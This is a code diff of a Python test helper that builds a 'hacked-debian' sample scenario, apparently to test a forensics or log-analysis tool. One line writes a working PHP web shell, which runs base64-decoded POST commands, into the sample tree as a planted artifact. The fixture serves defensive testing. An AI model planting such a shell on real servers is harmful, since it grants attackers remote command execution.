@@ -32,14 +32,19 @@ _COMBINED = re.compile(r'(\S+) (\S+) (\S+) \[([^\]]+)\] "(\S+) (\S+) (\S+)" (\d{
                        r'"([^"]*)" "([^"]*)"')
 
 
-def build_sample(dest: Path) -> Path:
+def sample_tree(name: str, dest: Path) -> Path:
+    """A scenario of samples/ built into ``dest`` by samples/build.py (which is not a package)."""
     import importlib.util
 
     spec = importlib.util.spec_from_file_location("sample_build", ROOT / "samples" / "build.py")
     assert spec and spec.loader
     module = importlib.util.module_from_spec(spec)
     spec.loader.exec_module(module)
-    root = module.build("hacked-debian", dest)
+    return module.build(name, dest)
+
+
+def build_sample(dest: Path) -> Path:
+    root = sample_tree("hacked-debian", dest)
     shell = root / SHELL.lstrip("/")
     shell.parent.mkdir(parents=True, exist_ok=True)
     shell.write_text("<?php if(isset($_POST['c'])){ echo shell_exec(base64_decode($_POST['c'])); } ?>\n")
